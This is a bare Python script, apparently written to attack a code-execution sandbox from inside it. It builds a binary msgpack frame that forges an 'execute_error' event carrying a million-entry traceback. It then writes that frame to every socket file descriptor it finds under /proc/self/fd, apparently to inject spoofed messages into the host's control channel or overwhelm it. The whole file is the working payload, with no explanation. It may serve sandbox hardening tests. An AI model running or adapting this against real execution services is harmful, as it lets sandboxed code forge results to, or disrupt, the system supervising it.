import os, stat

print('tried: a frame of its own', flush=True)


def text(s):
    s = s.encode()
    return (bytes([0xa0 | len(s)]) if len(s) < 32 else b'\xd9' + bytes([len(s)])) + s


lines = 1_000_000
report = (
    b'\x83' + text('ename') + text('E') + text('evalue') + text('')
    + text('traceback') + b'\xdd' + lines.to_bytes(4, 'big') + b'\xa0' * lines
)
event = b'\x82' + text('type') + text('execute_error') + text('data') + report
body = b'\x81' + text('Event') + b'\x82' + text('execution_id') + b'\xc0' + text('event') + event
frame = None
if frame is None:
    frame = len(body).to_bytes(4, 'big') + body

sockets = [
    int(fd) for fd in os.listdir('/proc/self/fd')
    if os.path.exists(f'/proc/self/fd/{fd}') and stat.S_ISSOCK(os.stat(f'/proc/self/fd/{fd}').st_mode)
]
assert sockets
for fd in sockets:
    os.set_blocking(fd, True)
    left = memoryview(frame)
    try:
        while left:
            left = left[os.write(fd, left):]
    except OSError:
        pass
